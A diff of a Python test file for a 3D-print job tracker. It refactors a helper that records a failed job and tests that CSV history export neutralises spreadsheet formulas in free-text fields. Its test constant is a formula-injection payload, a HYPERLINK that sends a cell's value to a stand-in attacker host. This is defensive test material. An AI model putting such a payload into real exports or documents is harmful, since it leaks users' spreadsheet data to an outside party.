@@ -10,20 +10,30 @@ import pytest
 
 from hospfab.fileio import spreadsheet_safe
 
-from test_jobs import record
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
 
 
-def test_free_text_starting_like_a_formula_is_exported_as_text(cli):
-    from hospfab.journal import Journal
+def failed_job(operator: str = "ana", material_lot: str = "L-9", reason: str = "why"):
+    """A failed job in this test's journal, recorded through the journal's own API."""
+    from hospfab.journal import PRINTING, Job, Journal, new_job_id, now_iso
     from hospfab.settings import Settings
 
-    job = record(outcome="failed")
     journal = Journal(Settings.resolve().journal_path)
-    journal.conn.execute("UPDATE jobs SET operator = ?, material_lot = ? WHERE id = ?", (FORMULA, "+1-555", job.id))
-    journal.conn.commit()
+    job = Job(
+        id=new_job_id(), ref="KNOB", revision=2, build_file="knob.gcode", sha256="cd" * 32, printer="mk4-01",
+        printer_url="http://127.0.0.1:9", printer_profile="prusa-mk4", material="petg", material_lot=material_lot,
+        operator=operator, created_at=now_iso(), overrides={}, remote_file="KNOB-r2-x.gcode",
+    )  # fmt: skip
+    journal.claim(job, require_bed_clear=False)
+    journal.update(job.id, outcome=PRINTING, started_at=now_iso())
+    journal.finish(job.id, "failed", reason)
     journal.close()
+    return job
+
+
+def test_free_text_starting_like_a_formula_is_exported_as_text(cli):
+    failed_job(operator=FORMULA, material_lot="+1-555")
     out = cli("history", "--csv")
     assert out.exit_code == 0
     [row] = list(csv.DictReader(io.StringIO(out.stdout)))
